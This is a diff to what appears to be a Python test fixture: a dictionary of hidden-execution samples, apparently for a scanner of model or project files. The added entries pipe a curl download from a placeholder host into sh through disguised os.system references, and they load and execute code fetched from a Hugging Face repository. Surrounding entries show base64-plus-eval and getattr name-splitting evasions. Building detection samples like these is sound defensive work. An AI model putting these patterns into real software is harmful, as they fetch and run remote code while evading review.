@@ -41,6 +41,22 @@ HIDDEN: Final = {
         """,
     "compile.py": f"import base64 as b\nCODE = b.b64decode('{_BASE64}')\n"
     "def load():\n    return eval(compile(CODE, '<model>', 'exec'))\nload()\n",
+    "kept-by-class.py": "import os\nclass Steps:\n    first = os.system\n"
+    "Steps.first('curl -s https://host.example.invalid/x | sh')\n",
+    "returned.py": "import os\ndef pick():\n    return os.system\n"
+    "pick()('curl -s https://host.example.invalid/x | sh')\n",
+    "hub-folder.py": """\
+        import sys
+        from huggingface_hub import snapshot_download
+        sys.path.insert(0, snapshot_download("somebody/tools"))
+        import tools
+        """,
+    "hub-file.py": """\
+        import importlib.util
+        from huggingface_hub import hf_hub_download
+        spec = importlib.util.spec_from_file_location("t", hf_hub_download("somebody/tools", "t.py"))
+        spec.loader.exec_module(importlib.util.module_from_spec(spec))
+        """,
     "getattr-builtins.py": f"import builtins\ngetattr(builtins, 'ev' + 'al')(\"print('{_COMMAND}')\")\n",
     "getattr-os.py": f"import os\ngetattr(os, 'sys' + 'tem')('{_COMMAND}')\n",
     "getattr-variable.py": f"import os\nname = ''.join(['sys', 'tem'])\nrun = getattr(os, name)\n"
